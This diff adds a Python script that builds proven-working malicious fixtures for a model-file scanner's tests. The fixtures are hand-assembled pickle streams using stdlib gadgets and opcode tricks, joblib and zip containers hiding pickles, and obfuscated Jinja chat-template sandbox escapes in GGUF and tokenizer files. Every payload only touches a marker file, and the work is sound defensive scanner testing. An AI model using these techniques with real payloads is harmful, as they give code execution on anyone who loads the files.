@@ -1,0 +1,751 @@
+"""Build tests/data/security/attacks/: published pickle/model attack techniques, each proven to run.
+
+    .venv/bin/python scripts/make_attack_fixtures.py            # all that this interpreter can build
+    .venv/bin/python scripts/make_attack_fixtures.py --only a01 # one fixture (prefix of its name)
+
+Every payload is harmless by design: it creates the empty file ``aitrail-proof`` in the current
+directory. Each candidate is written to a fresh temporary directory and loaded there by the loader a
+victim would use (pickle.load, joblib.load, torch.load, an unsandboxed Jinja render...) in a
+throwaway subprocess; only files whose marker appeared are kept, and manifest.csv records
+``proven=yes``. This script is the only place that ever loads these files: the tests only scan them.
+
+Fixtures needing torch/keras are built with ``benchmarks/work/fixturegen`` (its python runs the proof)
+when that venv exists; the others with the interpreter running this script (numpy, joblib, lz4, gguf,
+jinja2 in .venv). Sources (advisories, peers' tests, write-ups) are named per row; no third-party file is
+copied: every byte here is assembled from the technique's description.
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import io
+import os
+import pickle
+import struct
+import subprocess
+import sys
+import tempfile
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+OUT = ROOT / "tests" / "data" / "security" / "attacks"
+FIXTUREGEN = ROOT / "benchmarks" / "work" / "fixturegen" / "bin" / "python"
+MARK = "aitrail-proof"
+SH = f"touch {MARK}"  # the shell payload
+PY = f"open({MARK!r}, 'w').close()"  # the Python payload
+COLUMNS = ["file", "kind", "malicious", "technique", "source", "why", "proven"]
+
+
+# --- pickle assembly: opcodes by name, so each hand-made stream reads like its disassembly ---------
+def u(s: str) -> bytes:
+    """SHORT_BINUNICODE (or BINUNICODE when long)."""
+    b = s.encode()
+    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b
+
+
+def sg(mod: str, name: str) -> bytes:
+    return u(mod) + u(name) + pickle.STACK_GLOBAL
+
+
+def gl(mod: str, name: str) -> bytes:
+    return pickle.GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"
+
+
+def binbytes(b: bytes) -> bytes:
+    return pickle.BINBYTES + struct.pack("<I", len(b)) + b
+
+
+P2, P4, P5 = b"\x80\x02", b"\x80\x04", b"\x80\x05"
+T1, T2, T3, R, STOP = pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3, pickle.REDUCE, pickle.STOP
+
+
+def call(func: bytes, *args: bytes) -> bytes:
+    """func(*args) as REDUCE; args are already-encoded values."""
+    tup = {0: pickle.EMPTY_TUPLE, 1: T1, 2: T2, 3: T3}
+    if len(args) in tup:
+        return func + b"".join(args) + tup[len(args)] + R
+    return func + pickle.MARK + b"".join(args) + pickle.TUPLE + R
+
+
+class Reduce:
+    """An object whose pickle calls ``func(*args)``: the pickler writes what a real attacker's would."""
+
+    def __init__(self, func: object, *args: object) -> None:
+        self.func, self.args = func, args
+
+    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
+        return self.func, self.args
+
+
+def dumps(obj: object, protocol: int = 4) -> bytes:
+    return pickle.dumps(obj, protocol=protocol)
+
+
+# --- loaders: what a victim runs (in the proof subprocess only) ------------------------------------
+LOAD_PICKLE = "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)"
+LOAD_JOBLIB = "import joblib, sys\njoblib.load(sys.argv[1])"
+LOAD_TORCH = "import torch, sys\ntorch.load(sys.argv[1], weights_only=False)"
+LOAD_ZIP_MEMBERS = """import io, pickle, sys, zipfile
+def walk(z):
+    for n in z.namelist():
+        b = z.read(n)
+        if b[:4] == b'PK\\x03\\x04':
+            walk(zipfile.ZipFile(io.BytesIO(b)))
+        else:
+            try:
+                pickle.loads(b)
+            except Exception:
+                pass  # not a pickle: the next member
+walk(zipfile.ZipFile(sys.argv[1]))"""
+# llama-cpp-python before 0.2.72 rendered GGUF chat templates in a plain Environment (CVE-2024-34359)
+RENDER = "import jinja2\njinja2.Environment().from_string(t).render(messages=[], add_generation_prompt=True)"
+LOAD_GGUF = (
+    "import sys, gguf\nr = gguf.GGUFReader(sys.argv[1])\nf = r.fields['tokenizer.chat_template']\n"
+    "t = bytes(f.parts[f.data[0]]).decode()\n" + RENDER
+)
+LOAD_TOKCONFIG = "import json, sys\nt = json.load(open(sys.argv[1]))['chat_template']\n" + RENDER
+LOAD_TEXT = "import sys\nt = open(sys.argv[1]).read()\n" + RENDER
+LOAD_KERAS = "import sys, keras\nkeras.saving.load_model(sys.argv[1])"
+
+
+@dataclass
+class Fixture:
+    file: str  # path under attacks/
+    kind: str
+    technique: str
+    source: str
+    why: str  # "a|b": the scanner must name one of them (the dangerous thing, not "unknown global")
+    build: Callable[[Path], None]  # writes the file at the given path
+    loader: str
+    needs: str = "venv"  # or "fixturegen" (torch, keras...)
+
+
+FIXTURES: list[Fixture] = []
+
+
+def fixture(
+    file: str, kind: str, technique: str, source: str, why: str, loader: str = LOAD_PICKLE, needs: str = "venv"
+) -> Callable:
+    def deco(fn: Callable[[], bytes] | Callable[[Path], None]) -> Callable:
+        def build(p: Path) -> None:
+            out = fn() if fn.__code__.co_argcount == 0 else fn(p)  # type: ignore[call-arg]
+            if out is not None:
+                p.write_bytes(out)  # type: ignore[arg-type]
+
+        FIXTURES.append(Fixture(file, kind, technique, source, why, build, loader, needs))
+        return fn
+
+    return deco
+
+
+# --- gadgets the peers' lists or advisories name (stdlib / numpy) ----------------------------------
+@fixture(
+    "a01_mailcap_findmatch.pkl",
+    "pickle",
+    "mailcap.findmatch runs a caps entry's test= command via os.system",
+    "picklescan PR#69 / modelscan PR#346 (2026-05); CVE-2015-20107",
+    "mailcap",
+)
+def _a01() -> bytes:
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", DeprecationWarning)
+        import mailcap
+    caps = {"text/plain": [{"view": "true", "test": SH}]}
+    return dumps(Reduce(mailcap.findmatch, caps, "text/plain"))
+
+
+@fixture(
+    "a02_pydoc_locate.pkl",
+    "pickle",
+    "pydoc.locate('os.system') resolves a callable by name; its result is called",
+    "picklescan GHSA-84r2-jw7c-4r5q; fickling GHSA-5hvc-6wx8-mvv4",
+    "pydoc",
+)
+def _a02() -> bytes:
+    return P4 + call(call(sg("pydoc", "locate"), u("os.system")), u(SH)) + STOP
+
+
+@fixture(
+    "a03_numpy_testing_runstring.pkl",
+    "pickle",
+    "numpy.testing._private.utils.runstring is exec()",
+    "picklescan _unsafe_globals 'numpy.testing._private.utils'; issue 11",
+    "runstring",
+)
+def _a03() -> bytes:
+    from numpy.testing._private.utils import runstring
+
+    return dumps(Reduce(runstring, PY, {}))
+
+
+@fixture(
+    "a04_numpy_f2py_getlincoef.pkl",
+    "pickle",
+    "numpy.f2py.crackfortran.getlincoef eval()s its first argument",
+    "picklescan GHSA-r8g5-cgf2-4m4m",
+    "numpy.f2py",
+)
+def _a04() -> bytes:
+    from numpy.f2py.crackfortran import getlincoef
+
+    return dumps(Reduce(getlincoef, f"__import__('os').system({SH!r})", {}))
+
+
+@fixture(
+    "a05_pathlib_write_text.pkl",
+    "pickle",
+    "pathlib.Path.write_text called on a rebuilt PosixPath (file write)",
+    "issue 11 ('pathlib writes'); picklescan/fickling dotted-qualname globals",
+    "write_text",
+)
+def _a05() -> bytes:
+    return dumps(Reduce(Path.write_text, Path(MARK), "x"))
+
+
+@fixture(
+    "a06_pathlib_dotted_os_system.pkl",
+    "pickle",
+    "STACK_GLOBAL('pathlib', 'os.system'): os reached as an attribute of an allowed module",
+    "fickling GHSA-5j3x-jp52-966f",
+    "os.system",
+)
+def _a06() -> bytes:
+    return P4 + call(sg("pathlib", "os.system"), u(SH)) + STOP
+
+
+@fixture(
+    "a07_subinterpreter_run_string.pkl",
+    "pickle",
+    "_xxsubinterpreters.run_string(create(), source) runs code in a subinterpreter",
+    "fickling GHSA-6ggj-6f2q-f7mx; issue 11 (subinterpreters)",
+    "_xxsubinterpreters",
+)
+def _a07() -> bytes:
+    return P4 + call(sg("_xxsubinterpreters", "run_string"), call(sg("_xxsubinterpreters", "create")), u(PY)) + STOP
+
+
+@fixture(
+    "a08_uuid_get_command_stdout.pkl",
+    "pickle",
+    "uuid._get_command_stdout(cmd, *args) runs a process (subprocess.Popen)",
+    "picklescan GHSA-g38g-8gr9-h9xp; fickling GHSA-5hwf-rc88-82xm",
+    "uuid._get_command_stdout",
+)
+def _a08() -> bytes:
+    import uuid
+
+    return dumps(Reduce(uuid._get_command_stdout, "touch", MARK))  # type: ignore[attr-defined]
+
+
+@fixture(
+    "a09_osx_support_read_output.pkl",
+    "pickle",
+    "_osx_support._read_output(cmd) runs os.system (on every OS)",
+    "picklescan GHSA-g38g-8gr9-h9xp; fickling GHSA-5hwf-rc88-82xm",
+    "_osx_support",
+)
+def _a09() -> bytes:
+    import _osx_support
+
+    return dumps(Reduce(_osx_support._read_output, SH))
+
+
+@fixture(
+    "a10_imaplib_imap4_stream.pkl",
+    "pickle",
+    "imaplib.IMAP4_stream(cmd) runs Popen(cmd, shell=True)",
+    "picklescan GHSA-g38g-8gr9-h9xp",
+    "imaplib",
+)
+def _a10() -> bytes:
+    import imaplib
+
+    return dumps(Reduce(imaplib.IMAP4_stream, SH))
+
+
+@fixture(
+    "a11_cprofile_run.pkl",
+    "pickle",
+    "cProfile.run(source) exec()s it",
+    "picklescan GHSA-49gj-c84q-6qm9",
+    "cProfile",
+)
+def _a11() -> bytes:
+    import cProfile
+
+    return dumps(Reduce(cProfile.run, PY))
+
+
+@fixture(
+    "a12_timeit.pkl",
+    "pickle",
+    "timeit.timeit(stmt, setup, timer, number=1) compiles and runs stmt",
+    "picklescan _unsafe_globals 'timeit'",
+    "timeit",
+)
+def _a12() -> bytes:
+    import time
+    import timeit
+
+    return dumps(Reduce(timeit.timeit, PY, "pass", time.perf_counter, 1))
+
+
+@fixture(
+    "a13_trace_runctx.pkl",
+    "pickle",
+    "trace.Trace.runctx(Trace(0, 0), source, {}, {}) exec()s (dotted qualname, unbound method)",
+    "picklescan GHSA-g344-hcph-8vgg",
+    "trace",
+)
+def _a13() -> bytes:
+    trace = call(sg("trace", "Trace"), pickle.NEWFALSE, pickle.NEWFALSE)
+    return P4 + call(sg("trace", "Trace.runctx"), trace, u(PY), pickle.EMPTY_DICT, pickle.EMPTY_DICT) + STOP
+
+
+@fixture(
+    "a14_code_interpreter_runsource.pkl",
+    "pickle",
+    "code.InteractiveInterpreter.runsource(InteractiveInterpreter(), source)",
+    "picklescan GHSA-cj3c-v495-4xqh",
+    "code.InteractiveInterpreter",
+)
+def _a14() -> bytes:
+    interp = call(sg("code", "InteractiveInterpreter"))
+    return P4 + call(sg("code", "InteractiveInterpreter.runsource"), interp, u(PY)) + STOP
+
+
+@fixture(
+    "a15_runpy_run_code.pkl",
+    "pickle",
+    "runpy._run_code(source, {}) exec()s",
+    "fickling GHSA-wfq2-52f7-7qvj",
+    "runpy",
+)
+def _a15() -> bytes:
+    import runpy
+
+    return dumps(Reduce(runpy._run_code, PY, {}))  # type: ignore[attr-defined]
+
+
+@fixture(
+    "a16_pkgutil_resolve_name.pkl",
+    "pickle",
+    "pkgutil.resolve_name('os:system') then called",
+    "picklescan GHSA-vvpj-8cmc-gx39",
+    "pkgutil",
+)
+def _a16() -> bytes:
+    return P4 + call(call(sg("pkgutil", "resolve_name"), u("os:system")), u(SH)) + STOP
+
+
+@fixture(
+    "a17_attrgetter_globals_chain.pkl",
+    "pickle",
+    "operator.attrgetter('absolute.__globals__')(pathlib.Path) -> itemgetter('os') -> attrgetter('system') -> call",
+    "picklescan GHSA-46h3-79wf-xr6c (attrgetter); issue 11 ('operator.attrgetter chains')",
+    "attrgetter",
+)
+def _a17() -> bytes:
+    glob = call(call(sg("operator", "attrgetter"), u("absolute.__globals__")), sg("pathlib", "Path"))
+    os_mod = call(call(sg("operator", "itemgetter"), u("os")), glob)
+    system = call(call(sg("operator", "attrgetter"), u("system")), os_mod)
+    return P4 + call(system, u(SH)) + STOP
+
+
+@fixture(
+    "a18_getattr_on_module_global.pkl",
+    "pickle",
+    "GLOBAL 'pathlib os' pushes the os module; builtins.getattr(it, 'system') is called",
+    "fickling GHSA-5j3x-jp52-966f; issue 11 ('builtins.getattr on modules')",
+    "getattr",
+)
+def _a18() -> bytes:
+    return P2 + call(call(gl("builtins", "getattr"), gl("pathlib", "os"), u("system")), u(SH)) + STOP
+
+
+@fixture(
+    "a19_logging_dictconfig_factory.pkl",
+    "pickle",
+    "logging.config.dictConfig: a handler's '()' factory is resolved by name (subprocess.getoutput) and called",
+    "stdlib reading (logging.config BaseConfigurator.resolve); fickling lists logging",
+    "logging.config",
+)
+def _a19() -> bytes:
+    import logging.config
+
+    cfg = {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": SH}}}
+    return dumps(Reduce(logging.config.dictConfig, cfg))
+
+
+@fixture(
+    "a20_pty_spawn.pkl",
+    "pickle",
+    "pty.spawn(argv) forks and execs",
+    "picklescan GHSA-vqmv-47xg-9wpr",
+    "pty",
+)
+def _a20() -> bytes:
+    import pty
+
+    return dumps(Reduce(pty.spawn, ["sh", "-c", SH]))
+
+
+@fixture(
+    "a21_profile_run.pkl",
+    "pickle",
+    "profile.run(source) exec()s it",
+    "picklescan GHSA-7wx9-6375-f5wh",
+    "profile",
+)
+def _a21() -> bytes:
+    import profile
+
+    return dumps(Reduce(profile.run, PY))
+
+
+@fixture(
+    "a22_ctypes_cdll_system.pkl",
+    "pickle",
+    "ctypes.CDLL(None) (libc) then attrgetter('system') called",
+    "picklescan GHSA-4675-36f9-wf6r; fickling GHSA-q5qq-mvfm-j35x",
+    "ctypes",
+)
+def _a22() -> bytes:
+    libc = call(sg("ctypes", "CDLL"), pickle.NONE)
+    system = call(call(sg("operator", "attrgetter"), u("system")), libc)
+    return P4 + call(system, binbytes(SH.encode())) + STOP
+
+
+@fixture(
+    "a23_distutils_write_file.pkl",
+    "pickle",
+    "distutils.file_util.write_file(path, lines) writes a file",
+    "picklescan GHSA-m273-6v24-x4m4",
+    "distutils",
+)
+def _a23() -> bytes:
+    return P4 + call(sg("distutils.file_util", "write_file"), u(MARK), pickle.EMPTY_LIST) + STOP
+
+
+@fixture(
+    "a24_io_fileio_write.pkl",
+    "pickle",
+    "_io.FileIO(path, 'w') creates/truncates a file",
+    "picklescan test io_FileIO.pkl",
+    "FileIO",
+)
+def _a24() -> bytes:
+    return P4 + call(sg("_io", "FileIO"), u(MARK), u("w")) + STOP
+
+
+# --- opcode-level tricks: what the walker must follow ---------------------------------------------
+@fixture(
+    "o01_frame_straddle.pkl",
+    "pickle",
+    "BINBYTES declared longer than its FRAME: the C unpickler reads past the frame and runs a buried GLOBAL/REDUCE",
+    "cpython#154848; fickling test_frame_boundary_divergence; issue 11",
+    "os.system",
+)
+def _o01() -> bytes:
+    hidden = gl("os", "system") + pickle.UNICODE + SH.encode() + b"\n" + T1 + R
+    return (
+        P5 + pickle.NONE + pickle.UNICODE + b"a" * (8192 * 16 - 17) + b"\n" + pickle.POP + pickle.MARK
+        + pickle.FRAME + struct.pack("<Q", 2) + pickle.BINBYTES + struct.pack("<I", 0x107)
+        + b"\x00\x00" + (hidden + pickle.MARK).ljust(0x107 - 2, pickle.NONE)
+        + pickle.POP_MARK + STOP
+    )  # fmt: skip
+
+
+@fixture(
+    "o02_copyreg_ext_registry.pkl",
+    "pickle",
+    "copyreg.add_extension('os', 'system', 240) called, then EXT1 240 resolves os.system with no GLOBAL naming it",
+    "pickle EXT1/EXT2/EXT4 semantics (Modules/_pickle.c load_extension); issue 11",
+    "add_extension|os.system",
+)
+def _o02() -> bytes:
+    reg = call(gl("copyreg", "add_extension"), u("os"), u("system"), pickle.BININT1 + b"\xf0") + pickle.POP
+    return P2 + reg + call(pickle.EXT1 + b"\xf0", u(SH)) + STOP
+
+
+@fixture(
+    "o03_binpersid_hidden_call.pkl",
+    "pickle",
+    "the call runs inside the argument of BINPERSID; pickle.load then fails (no persistent_load) after it ran",
+    "pickle PERSID semantics; issue 11",
+    "subprocess.getoutput",
+)
+def _o03() -> bytes:
+    return P4 + call(sg("subprocess", "getoutput"), u(SH)) + pickle.BINPERSID + STOP
+
+
+@fixture(
+    "o04_newobj_ex_partial.pkl",
+    "pickle",
+    "NEWOBJ_EX builds functools.partial(os.system, cmd); an empty REDUCE calls it",
+    "issue 11 (NEWOBJ_EX, functools.partial(os.system))",
+    "os.system",
+)
+def _o04() -> bytes:
+    part = sg("functools", "partial") + sg("os", "system") + u(SH) + T2 + pickle.EMPTY_DICT + pickle.NEWOBJ_EX
+    return P4 + part + pickle.EMPTY_TUPLE + R + STOP
+
+
+@fixture(
+    "o05_obj_pop_hidden_call.pkl",
+    "pickle",
+    "OBJ calls a function (not a class) and POP discards the result",
+    "fickling GHSA-mxhj-88fx-4pcv",
+    "os.system",
+)
+def _o05() -> bytes:
+    return P4 + pickle.MARK + sg("os", "system") + u(SH) + pickle.OBJ + pickle.POP + pickle.NONE + STOP
+
+
+@fixture(
+    "o06_setstate_partial.pkl",
+    "pickle",
+    "functools.partial(print) rebuilt, then BUILD's __setstate__ swaps in os.system before REDUCE calls it",
+    "issue 11 (BUILD/__setstate__ tricks)",
+    "os.system",
+)
+def _o06() -> bytes:
+    part = call(sg("functools", "partial"), sg("builtins", "print"))
+    state = pickle.MARK + sg("os", "system") + u(SH) + T1 + pickle.NONE + pickle.NONE + pickle.TUPLE
+    return P4 + part + state + pickle.BUILD + pickle.EMPTY_TUPLE + R + STOP
+
+
+@fixture(
+    "o07_proto0_commands_fix_imports.pkl",
+    "pickle",
+    "protocol 0 GLOBAL 'commands getoutput': fix_imports maps Python 2's commands to subprocess",
+    "Lib/_compat_pickle.py IMPORT_MAPPING; issue 11 (protocol-0 quirks)",
+    "subprocess.getoutput|commands",
+)
+def _o07() -> bytes:
+    return gl("commands", "getoutput") + pickle.MARK + pickle.UNICODE + SH.encode() + b"\n" + pickle.TUPLE + R + STOP
+
+
+@fixture(
+    "o08_payload_then_broken.pkl",
+    "pickle",
+    "payload first, then an invalid opcode: pickle.load runs it before failing (nullifAI 'broken pickle')",
+    "ReversingLabs nullifAI (2025-02)",
+    "subprocess.getoutput",
+)
+def _o08() -> bytes:
+    return P2 + call(gl("subprocess", "getoutput"), u(SH)) + pickle.POP + b"\xff\xfe garbage"
+
+
+@fixture(
+    "o09_nested_bytearray8.pkl",
+    "pickle",
+    "pickle.loads(BYTEARRAY8 holding a second pickle that calls posix.system)",
+    "issue 11 (pickles nested in BYTEARRAY8)",
+    "system",
+)
+def _o09() -> bytes:
+    inner = dumps(Reduce(os.system, SH), 5)
+    return P5 + call(sg("pickle", "loads"), pickle.BYTEARRAY8 + struct.pack("<Q", len(inner)) + inner) + STOP
+
+
+@fixture(
+    "o10_nested_zlib_binbytes.pkl",
+    "pickle",
+    "pickle.loads(zlib.decompress(BINBYTES)): the nested pickle (posix.system) is compressed",
+    "issue 11 (pickles nested in BINBYTES as compressed pickles)",
+    "system",
+)
+def _o10() -> bytes:
+    import zlib
+
+    inner = zlib.compress(dumps(Reduce(os.system, SH)))
+    return P4 + call(sg("_pickle", "loads"), call(sg("zlib", "decompress"), binbytes(inner))) + STOP
+
+
+# --- containers and compression --------------------------------------------------------------------
+def _joblib(p: Path, compress: object) -> None:
+    import joblib
+    import numpy as np
+
+    joblib.dump({"coef": np.arange(4.0), "hook": Reduce(os.system, SH)}, p, compress=compress)
+
+
+for _n, (_c, _ext) in enumerate(
+    [("gzip", "gz"), ("bz2", "bz2"), ("xz", "xz"), ("lzma", "lzma"), ("lz4", "lz4"), ("zlib", "z")], 1
+):
+    fixture(
+        f"c{_n:02d}_joblib_{_c}.joblib.{_ext}", "joblib-compressed",
+        f"joblib.dump(compress='{_c}') of a dict holding a posix.system REDUCE (joblib.load decompresses it)",
+        "issue 11 (compressed pickles: only zlib is followed)", "system", LOAD_JOBLIB,
+    )(lambda p, _c=_c: _joblib(p, (_c, 3)))  # type: ignore[misc]
+
+
+@fixture(
+    "z01_zip_member_any_name.zip",
+    "zip",
+    "a pickle stored as data/weights.bin in a zip (no .pkl name)",
+    "issue 11 (zip members walked only when named *.pkl); JFrog CVE-2025-10155",
+    "system",
+    LOAD_ZIP_MEMBERS,
+)
+def _z01() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr("README.txt", "weights")
+        z.writestr("data/weights.bin", dumps(Reduce(os.system, SH)))
+    return buf.getvalue()
+
+
+@fixture(
+    "z02_zip_in_zip.zip",
+    "zip",
+    "zip holding inner.zip holding model/data.pkl",
+    "issue 11 (zip-in-zip)",
+    "system",
+    LOAD_ZIP_MEMBERS,
+)
+def _z02() -> bytes:
+    inner, outer = io.BytesIO(), io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as z:
+        z.writestr("model/data.pkl", dumps(Reduce(os.system, SH)))
+    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("inner.zip", inner.getvalue())
+    return outer.getvalue()
+
+
+# --- Jinja chat templates: sandbox escapes spelled so no dunder appears whole ------------------------
+J_ATTR = (
+    "{% set b = ()|attr('__cla'~'ss__')|attr('__ba'~'se__') %}"
+    "{% for c in (b|attr('__subcl'~'asses__'))() %}{% if c|attr('__na'~'me__') == 'catch_warnings' %}"
+    "{{ (c()|attr('_mod'~'ule')|attr('__buil'~'tins__'))['__imp'~'ort__']('os')|attr('sys'~'tem')(" + repr(SH) + ") }}"
+    "{% endif %}{% endfor %}{% for m in messages %}{{ m['content'] }}{% endfor %}"
+)
+J_SUBSCRIPT = (
+    "{{ lipsum['__glo' 'bals__']['o' 's']['pop' 'en'](" + repr(SH) + ").read() }}"
+    "{% for m in messages %}{{ m['content'] }}{% endfor %}"
+)
+J_FORMAT = (
+    "{% set u = '%c%c'|format(95, 95) %}"
+    "{{ cycler[u ~ 'init' ~ u][u ~ 'globals' ~ u]['os']['system'](" + repr(SH) + ") }}"
+)
+
+
+@fixture(
+    "j01_gguf_chat_template_attr_tilde.gguf",
+    "gguf",
+    "GGUF tokenizer.chat_template reaching __subclasses__ through |attr and '~'-split names",
+    "CVE-2024-34359 (llama-cpp-python GHSA-56xg-wfcc-g829), obfuscated; issue 11",
+    "__subclasses__",
+    LOAD_GGUF,
+)
+def _j01(p: Path) -> None:
+    import gguf
+    import numpy as np
+
+    w = gguf.GGUFWriter(str(p), "llama")
+    w.add_chat_template(J_ATTR)
+    w.add_tensor("tok_embd.weight", np.zeros((2, 2), dtype=np.float32))
+    w.write_header_to_file()
+    w.write_kv_data_to_file()
+    w.write_tensors_to_file()
+    w.close()
+
+
+@fixture(
+    "j02_tokenizer_config/tokenizer_config.json",
+    "tokenizer-config",
+    "tokenizer_config.json chat_template: lipsum['__glo' 'bals__'] (implicit string concatenation in a subscript)",
+    "CVE-2024-34359 class; Jinja implicit concatenation",
+    "__globals__",
+    LOAD_TOKCONFIG,
+)
+def _j02() -> bytes:
+    import json
+
+    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": J_SUBSCRIPT}).encode()
+
+
+@fixture(
+    "j03_chat_template/chat_template.jinja",
+    "chat-template",
+    "chat_template.jinja: underscores built with '%c%c'|format(95, 95) and ~, reaching cycler.__init__.__globals__",
+    "CVE-2024-34359 class; issue 11 (Jinja filters)",
+    "__globals__",
+    LOAD_TEXT,
+)
+def _j03() -> bytes:
+    return J_FORMAT.encode()
+
+
+# --- proof ---------------------------------------------------------------------------------------
+def prove(fx: Fixture, python: Path) -> tuple[bool, str]:
+    """Build fx in a fresh directory and load it there in a subprocess; proven when the marker appears."""
+    with tempfile.TemporaryDirectory(prefix="aitrail-attack-") as d:
+        target = Path(d) / "f" / fx.file
+        target.parent.mkdir(parents=True)
+        fx.build(target)
+        work = Path(d) / "cwd"
+        work.mkdir()
+        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(work), "PYTHONWARNINGS": "ignore"}
+        try:
+            r = subprocess.run(
+                [str(python), "-c", fx.loader, str(target)], cwd=work, env=env, capture_output=True,
+                timeout=120, stdin=subprocess.DEVNULL,
+            )  # fmt: skip
+            tail = r.stderr.decode(errors="replace").strip().splitlines()[-1:] or [""]
+        except subprocess.TimeoutExpired:
+            tail = ["timeout"]
+        ok = (work / MARK).exists()
+        if ok:
+            dest = OUT / fx.file
+            dest.parent.mkdir(parents=True, exist_ok=True)
+            dest.write_bytes(target.read_bytes())
+        return ok, tail[0]
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--only", help="build only fixtures whose file name starts with this")
+    args = ap.parse_args()
+    OUT.mkdir(parents=True, exist_ok=True)
+    manifest = OUT / "manifest.csv"
+    rows: dict[str, dict[str, str]] = {}
+    if manifest.exists():
+        rows = {r["file"]: r for r in csv.DictReader(manifest.open(encoding="utf-8"))}
+    failed = []
+    for fx in FIXTURES:
+        if args.only and not fx.file.startswith(args.only):
+            continue
+        python = Path(sys.executable) if fx.needs == "venv" else FIXTUREGEN
+        if not python.exists():
+            print(f"skip {fx.file}: {python} missing", file=sys.stderr)
+            continue
+        ok, why = prove(fx, python)
+        print(f"{'proven ' if ok else 'FAILED '} {fx.file}" + ("" if ok else f"  ({why})"), file=sys.stderr)
+        if ok:
+            rows[fx.file] = {
+                "file": fx.file, "kind": fx.kind, "malicious": "1", "technique": fx.technique,
+                "source": fx.source, "why": fx.why, "proven": "yes",
+            }  # fmt: skip
+        else:
+            failed.append(fx.file)
+            rows.pop(fx.file, None)
+            (OUT / fx.file).unlink(missing_ok=True)
+    with manifest.open("w", encoding="utf-8", newline="") as f:
+        w = csv.DictWriter(f, COLUMNS, lineterminator="\n")
+        w.writeheader()
+        for k in sorted(rows):
+            w.writerow(rows[k])
+    if failed:
+        print(f"{len(failed)} not proven (not kept): {', '.join(failed)}", file=sys.stderr)
+
+
+if __name__ == "__main__":
+    main()
